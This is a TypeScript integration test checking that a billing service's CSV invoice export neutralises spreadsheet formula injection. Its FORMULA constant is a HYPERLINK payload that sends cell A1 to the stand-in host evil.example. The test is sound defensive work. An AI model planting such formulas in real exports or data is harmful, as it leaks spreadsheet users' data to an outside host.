import { parseCsvRecords } from '@revline/http';
import { bearer, seedApiKey } from '@revline/testing';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { BillingEnv } from '../support/billing-env';
import { startBillingEnv } from '../support/billing-env';

const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Refund")';

describe('CSV exports are inert in a spreadsheet', () => {
  let env: BillingEnv;
  let viewer: string;
  let invoiceId: string;

  beforeAll(async () => {
    env = await startBillingEnv({});
    viewer = await seedApiKey(env.db.dataSource, ['finance.viewer']);
    const { stripe } = env;
    // Pinned: the invoice is dated on a test clock frozen on 10 March 2026.
    const clock = await stripe.testHelpers.testClocks.create({
      frozen_time: Date.parse('2026-03-10T12:00:00Z') / 1000,
    });
    const customer = await stripe.customers.create({ name: 'Mallory', test_clock: clock.id });
    const product = await stripe.products.create({ name: 'Setup' });
    const price = await stripe.prices.create({ product: product.id, currency: 'usd', unit_amount: 5000 });
    const invoice = await stripe.invoices.create({ customer: customer.id, auto_advance: false });
    await stripe.invoiceItems.create({
      customer: customer.id,
      invoice: invoice.id,
      pricing: { price: price.id },
      description: FORMULA,
    });
    invoiceId = (await stripe.invoices.finalizeInvoice(invoice.id)).id;
  });

  afterAll(async () => {
    await env.close();
  });

  const exportCsv = (headers: Record<string, string> = {}) =>
    request(env.billing.url)
      .get('/v1/invoice-lines/export?from=2026-03-01&to=2026-03-31&format=csv')
      .set(bearer(viewer))
      .set(headers)
      .expect(200);

  it('a formula in a Stripe invoice description comes out inert in the CSV', async () => {
    const res = await exportCsv();
    expect(res.headers['content-type']).toContain('text/csv');
    expect(res.text.startsWith('\uFEFFinvoiceId,')).toBe(true);
    // Every line ends CRLF; no bare LF.
    expect(res.text.replace(/\r\n/g, '')).not.toContain('\n');
    const [line] = parseCsvRecords(res.text.slice(1)).filter((r) => r.invoiceId === invoiceId);
    expect(line.description).toBe(`'${FORMULA}`);
    expect(line.amountMinor).toBe('5000');
    // A day stays a day; no cell of the file starts a formula.
    expect(line.issuedOn).toBe('2026-03-10');
    const cells = parseCsvRecords(res.text.slice(1)).flatMap((r) => Object.values(r));
    expect(cells.filter((c) => /^[=+@\t\r]/.test(c) || /^-(?!\d+(\.\d+)?$)/.test(c))).toEqual([]);
  });

  it('writes the values as they are for a program that asks for CSV-Dialect: rfc4180', async () => {
    const res = await exportCsv({ 'CSV-Dialect': 'rfc4180' });
    expect(res.text.startsWith('invoiceId,')).toBe(true);
    expect(res.text).not.toContain('\r\n');
    const [line] = parseCsvRecords(res.text).filter((r) => r.invoiceId === invoiceId);
    expect(line.description).toBe(FORMULA);
  });
});
